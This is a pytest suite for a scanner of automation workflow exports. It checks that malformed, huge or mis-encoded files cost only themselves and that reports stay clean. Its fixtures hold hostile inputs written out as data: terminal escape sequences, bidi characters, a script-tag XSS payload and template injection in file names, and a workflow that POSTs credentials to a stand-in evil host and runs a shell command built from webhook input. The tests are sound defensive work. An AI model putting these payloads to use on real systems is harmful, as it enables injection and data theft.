"""What files hold and how they are named may cost those files and nothing else: the real command on hostile trees."""

import json
import random
import re
import shutil
from collections.abc import Iterator
from concurrent.futures import Future
from pathlib import Path
from typing import Any

import pytest
from support.hostile import (
    DAY,
    HEALTHY,
    Scan,
    command,
    export,
    healthy,
    only_gap,
    scan,
    scans,
    survives,
    workflow,
    write,
)

DEEP = 10_000
IN_A_NODE = json.dumps(workflow()).replace('"operation": "insert"', '"operation": "insert", "values": "@"')
GAPS: dict[str, tuple[str | bytes, str]] = {
    "empty": ("", "is empty"),
    "only-space": (" \n\n", "is empty"),
    "only-a-mark": (b"\xef\xbb\xbf", "is empty"),
    "only-a-wide-mark": (b"\xff\xfe", "is empty"),
    "program": (b"\x7fELF\2\1\1\0\0\0" * 40, "is binary"),
    "zero-byte-inside": (export().replace("Other", "Ot\0her"), "is binary"),
    "zero-byte-far-inside": (export("x" * 9000 + "@").replace("@", "\0"), r"line 3\b"),
    "wide-without-mark": (export().encode("utf-32-le"), "is binary"),
    "cut": (export()[:700], r"line \d+"),
    "cut-to-a-brace": ("{", "line 1"),
    "deep-lists": ("[" * DEEP + "]" * DEEP, "nested too deep"),
    "deep-objects": ('{"a":' * DEEP + "1" + "}" * DEEP, "nested too deep"),
    "deep-and-open": ('{"nodes":' * DEEP, "nested too deep"),
    "deep-in-a-node": (IN_A_NODE.replace('"@"', "[" * DEEP + "]" * DEEP), "nested too deep"),
    "deep-objects-in-a-node": (IN_A_NODE.replace('"@"', '{"a":' * DEEP + "1" + "}" * DEEP), "nested too deep"),
    "endless-number": (IN_A_NODE.replace('"@"', "9" * 5000), "number that is too long"),
    "mark-lies-16": (b"\xff\xfe" + export("Odd").encode() + b"}" * (1 - len(export("Odd")) % 2), "byte-order mark"),
    "mark-lies-16-in-pairs": (b"\xff\xfe" + export("Odd").encode() + b"}" * (len(export("Odd")) % 2), "not valid JSON"),
    "mark-lies-8": (b"\xef\xbb\xbf" + export("Z\xfcrich").encode("latin-1").replace(b"\\u00fc", b"\xfc"), "order mark"),
    "mark-lies-8-is-16": (b"\xef\xbb\xbf" + export().encode("utf-16-le"), "JSON|order mark"),
}
SIZES: dict[str, tuple[bytes, int, str]] = {
    "begins-as-json": (b'{"nodes": [' + b" " * 9000, 200_000_000, "is larger than 64 MB"),
    "zeros": (b"", 200_000_000, "is binary"),
}
SURROGATE = "\ud83d"
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")
BIDI = "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
STEERING = f"\x1b[31m\x1b]0;title\x07\x9b2J\r{BIDI}<script>alert(1)</script>{{{{7*7}}}}{{check}}"
NAMES = (
    b"line\nbreak.json", b"\x1b[31mred.json", b"\x1b]0;title\x07.json", b"not-utf8-\xff\xfe.json", b"c1-\xc2\x9b2J.json",
    b"<script>alert(1)&.json", b"{reason}{{7*7}}.json", b"back\\slash!.json", BIDI.encode() + b"gpj.json",
)  # fmt: skip


@pytest.fixture(scope="module")
def done(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Future[Scan]]]:
    """Every case, scanned by itself."""
    with scans(
        tmp_path_factory.mktemp("cases"), {name: {"bad.json": content} for name, (content, _) in GAPS.items()}
    ) as futures:
        yield futures


@pytest.mark.parametrize("case", GAPS)
def test_bad_content_costs_its_own_file(case: str, done: dict[str, Future[Scan]]) -> None:
    only_gap(done[case].result(), "bad.json", GAPS[case][1])


@pytest.mark.parametrize("case", SIZES)
def test_sparse_file_of_200_megabytes(case: str, tmp_path: Path) -> None:
    head, size, reason = SIZES[case]
    with (write(tmp_path, {}) / "large.json").open("wb") as stream:
        stream.write(head)
        stream.truncate(size)
    survives(tmp_path, "large.json", reason)


def test_real_json_of_70_megabytes(tmp_path: Path) -> None:
    row = json.dumps(workflow()["nodes"][1]) + ","
    with (write(tmp_path, {}) / "large.json").open("w") as stream:
        stream.write('{"name": "Large", "connections": {}, "nodes": [')
        stream.writelines(row * 1000 for _ in range(70_000_000 // len(row) // 1000 + 1))
        stream.write(row.rstrip(",") + "]}")
    survives(tmp_path, "large.json", "is larger than 64 MB")
    (tmp_path / "large.json").unlink()


def test_one_line_of_60_megabytes_is_read_in_full(tmp_path: Path) -> None:
    text = json.dumps(workflow(id="long", name="Long", pinData={"Hook": "y" * 60_000_000}))
    assert "\n" not in text
    done = scan(write(tmp_path, {"long.json": text}), seconds=60)
    (tmp_path / "long.json").unlink()
    assert (done.code, done.names) == (0, ["Long", "Orders"])
    assert [step["name"] for step in done.automation("long.json")["steps"]] == ["Save", "Tell"]


def test_export_cut_off_anywhere_says_where(tmp_path: Path) -> None:
    points = random.Random(20).sample(range(1, len(export()) - 1), 20)  # noqa: S311 - the same points every time
    cuts = {f"cut-{point}.json": export()[:point] for point in points}
    done = scan(write(tmp_path, cuts))
    assert done.code == 3
    assert [*done.gaps] == sorted(cuts)
    for path, text in cuts.items():
        with pytest.raises(json.JSONDecodeError) as error:
            json.loads(text)
        assert re.search(rf"line {error.value.lineno}\b", done.gaps[path]), f"{path}: {done.gaps[path]}"


@pytest.mark.parametrize("text", ['{"name": "cut in a str', '{"name": "line\nbreak"}'], ids=["cut", "control"])
def test_reason_is_a_whole_sentence(text: str, tmp_path: Path) -> None:
    done = survives(write(tmp_path, {"bad.json": text}), "bad.json", "line 1")
    assert not re.search(r"\b(at|in|of|for)$", done.gaps["bad.json"]), done.gaps["bad.json"]


def test_every_encoding_of_an_export_is_read(tmp_path: Path) -> None:
    encodings = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1")
    files = {f"{one}.json": export(f"Zürich {one}").replace(r"\u00fc", "ü").encode(one) for one in encodings}
    files["utf-16-be-mark.json"] = b"\xfe\xff" + export("Zürich marked").replace(r"\u00fc", "ü").encode("utf-16-be")
    done = scan(write(tmp_path, files))
    assert (done.code, done.gaps) == (0, {})
    assert done.names == sorted(["Orders", "Zürich marked", *(f"Zürich {one}" for one in encodings)])
    lines = {tuple(step["location"]["line"] for step in one["steps"]) for one in done.automations}
    assert len(lines) == 1, "the same export in another encoding has the same lines"


def test_odd_values_are_read_as_what_they_are(tmp_path: Path) -> None:
    values = ("NaN", "Infinity", "-Infinity", "1e999", "-5", "1.5", "9223372036854775808", "9" * 4000, "null", "[[]]")
    files = {}
    for index, value in enumerate(values):
        node = {**workflow()["nodes"][1], "retryOnFail": True, "maxTries": "@", "typeVersion": "@", "position": "@"}
        text = export(f"Number {index}", nodes=[workflow()["nodes"][0], node], staticData="@")
        files[f"number-{index}.json"] = text.replace('"@"', value)
    first, second = '"name": "First"', '"name": "Last"'
    files["twice.json"] = export("First").replace(first, f"{first},\n {second}")
    files["proto.json"] = export("Proto", __proto__={"a": 1}, constructor={"prototype": {"a": 1}})
    files["null-character.json"] = export("Nu\0ll")
    files["long.json"] = export("L" * 1_000_000, description="d" * 1_000_000)
    done = scan(write(tmp_path, files))
    assert (done.code, done.gaps) == (0, {})
    assert {name[:4] for name in done.names} == {"Numb", "Last", "Prot", "Nu\0l", "LLLL", "Orde"}
    assert len(done.names) == len(files) + 1
    assert len(done.out) < 1_000_000, "a name of a megabyte is cut"


@pytest.mark.parametrize("place", ["name", "id", "node-id", "node", "type", "credential", "key", "all"])
def test_half_of_a_surrogate_pair_ends_nothing(place: str, tmp_path: Path) -> None:
    changed = workflow(id="half", name="Half")
    hook, save, tell = changed["nodes"]
    del hook["parameters"]["authentication"], hook["credentials"]  # so that a finding speaks of it
    tell.update(type="n8n-nodes-base.executeCommand", parameters={"command": "=ls {{ $json.x }}"})
    for name, holder, key in (
        ("name", changed, "name"), ("id", changed, "id"), ("node-id", hook, "id"), ("node", tell, "name"),
        ("type", save, "type"), ("credential", save["credentials"]["postgres"], "name"),
        ("all", hook["parameters"], "path"),
    ):  # fmt: skip
        if place in (name, "all"):
            holder[key] += SURROGATE
    if place in ("key", "all"):
        save["parameters"][SURROGATE] = SURROGATE
    tree = write(tmp_path / "tree", {"half.json": json.dumps(changed)})
    done = scan(tree, "-f", "html=out.html", "-f", "sarif=out.sarif")
    assert "half.json" in done.gaps or len(done.automations) == 2
    (tmp_path / "out.html").read_text(encoding="utf-8")
    json.loads((tmp_path / "out.sarif").read_text(encoding="utf-8"))


def test_half_of_a_surrogate_pair_in_a_node_of_another_platform(tmp_path: Path) -> None:
    nodes = [{"id": "a1", "type": SURROGATE, "z": "a2", "wires": []}, {"id": "a2", "type": "tab", "label": "Flow"}]
    done = scan(write(tmp_path, {"flows.json": json.dumps(nodes)}))
    assert done.names == ["Flow", "Orders"] or "flows.json" in done.gaps


@pytest.mark.parametrize("rest", [export("Second"), "@@ not JSON"], ids=["second-export", "garbage"])
def test_what_follows_an_export_is_not_passed_over_in_silence(rest: str, tmp_path: Path) -> None:
    done = scan(write(tmp_path, {"two.json": export("First") + "\n" + rest}))
    assert "First" in done.names or "two.json" in done.gaps
    assert "Second" in done.names or "two.json" in done.gaps


def test_deep_python_script_leaves_nothing_behind(tmp_path: Path) -> None:
    script = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
    done = scan(write(tmp_path, {"deep.py": script, "zero.py": b"x = 1\n" + b"#" * 9000 + b"\0"}), seconds=60)
    assert len(done.automations) == 1


def test_scan_changes_nothing_in_the_tree(tmp_path: Path) -> None:
    tree = write(tmp_path, {"cut.json": "{", "empty.json": "", "a/b/other.json": export()})

    def state() -> list[tuple[str, int, int, int]]:
        found = [(path, path.lstat()) for path in sorted(tree.rglob("*"))]
        return [(str(path), stat.st_mode, stat.st_size, stat.st_mtime_ns) for path, stat in found]

    before = state()
    assert scan(tree).code == 3
    assert state() == before


@pytest.fixture(scope="module")
def steering(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Scan]]:
    """One scan, in every format, of exports and file names that try to steer a terminal or a page."""
    root = tmp_path_factory.mktemp("steering")
    tree = write(root / "tree", {})
    for index, name in enumerate(NAMES):
        content = "{" if index % 2 else export(f"File {index}")
        Path(str(tree), name.decode("utf-8", "surrogateescape")).write_text(content)
    (tree / "inside.json").write_text(json.dumps(_steering_workflow()))
    formats = [f"{name}=out.{name}" for name in ("html", "markdown", "sarif", "json")]
    options = [part for one in formats for part in ("-f", one)]
    done = command("scan", "tree", "-f", "console", "-v", *options, "--today", DAY, cwd=root)
    assert done.code == 1, f"the open webhook must be found: {done.err}"
    yield root, done
    shutil.rmtree(root)


def _steering_workflow() -> dict[str, Any]:
    text = STEERING
    nodes = [
        {"id": f"a{text}", "name": f"Hook{text}", "type": "n8n-nodes-base.webhook", "parameters": {"path": f"p{text}"}},
        {"id": f"b{text}", "name": f"Send{text}", "type": "n8n-nodes-base.httpRequest",
         "parameters": {"method": "POST", "url": f"http://evil{text}.example/{text}",
                        "options": {"allowUnauthorizedCerts": True}},
         "credentials": {f"shopApi{text}": {"id": f"7{text}", "name": f"Key{text}"}}},
        {"id": f"c{text}", "name": f"Run{text}", "type": "n8n-nodes-base.executeCommand",
         "parameters": {"command": "=ls {{ $json.x" + text + " }}"}},
        {"id": f"d{text}", "name": f"Own{text}", "type": f"n8n-nodes-evil{text}.thing", "parameters": {}},
    ]  # fmt: skip
    edges = {f"Hook{text}": {"main": [[{"node": f"Send{text}"}, {"node": f"Run{text}"}]]}}
    return workflow(id=f"x{text}", name=f"Flow{text}", description=text, nodes=nodes, connections=edges)


def test_terminal_gets_no_control_character(steering: tuple[Path, Scan]) -> None:
    done = steering[1]
    for text in (done.out.decode("utf-8"), done.err):
        assert not CONTROL.search(text)
        assert not set(text) & set(BIDI)
    assert b"Flow" in done.out
    assert b"red.json" in done.out


@pytest.mark.parametrize("name", ["html", "markdown", "sarif"])
def test_reports_get_no_control_character(name: str, steering: tuple[Path, Scan]) -> None:
    text = (steering[0] / f"out.{name}").read_bytes().decode("utf-8")
    assert not CONTROL.search(text)
    assert not set(text) & set(BIDI)


def test_json_on_a_terminal_gets_no_control_character(steering: tuple[Path, Scan]) -> None:
    assert not CONTROL.search((steering[0] / "out.json").read_text(encoding="utf-8"))


def test_page_shows_markup_and_placeholders_as_text(steering: tuple[Path, Scan]) -> None:
    page = (steering[0] / "out.html").read_text(encoding="utf-8")
    assert "alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)" in page
    assert "{{7*7}}{check}" in page
    assert "<script>alert" not in (steering[0] / "out.markdown").read_text(encoding="utf-8")


def test_every_odd_name_is_read_or_a_gap_under_its_own_path(steering: tuple[Path, Scan]) -> None:
    answer = json.loads((steering[0] / "out.json").read_bytes())
    found = {one["location"]["path"] for one in answer["inventory"]["automations"]}
    gaps = {gap["path"] for gap in answer["inventory"]["gaps"]}
    shown = [name.decode("utf-8", "backslashreplace") for name in NAMES]
    assert found == {HEALTHY, "inside.json", *shown[::2]}
    assert gaps == set(shown[1::2])


def test_placeholders_in_names_are_not_filled(tmp_path: Path) -> None:
    tree = write(tmp_path, {"{reason}{kind}.json": "{", "open.json": json.dumps(_steering_workflow())})
    messages = [finding["message"] for finding in scan(tree).json["findings"]]
    assert any("{reason}{kind}.json" in message for message in messages)
    assert any("{check}" in message for message in messages)


def test_arabic_letter_mark_is_a_direction_as_well(tmp_path: Path) -> None:
    write(tmp_path, {"mark\u061cgpj.json": "{"})
    done = command("scan", ".", "--today", DAY, cwd=tmp_path)
    assert "gpj.json" in done.out.decode()
    assert "\u061c" not in done.out.decode()


def test_inventory_is_as_careful_as_a_scan(tmp_path: Path) -> None:
    write(tmp_path, {"inside.json": json.dumps(_steering_workflow()), "\x1b[31m.json": "{"})
    done = command("inventory", ".", cwd=tmp_path)
    assert done.code == 3
    assert b"Flow" in done.out
    assert not CONTROL.search(done.out.decode("utf-8") + done.err)
    answer = command("inventory", ".", "-f", "json", cwd=tmp_path)
    assert answer.automation(HEALTHY) == healthy()
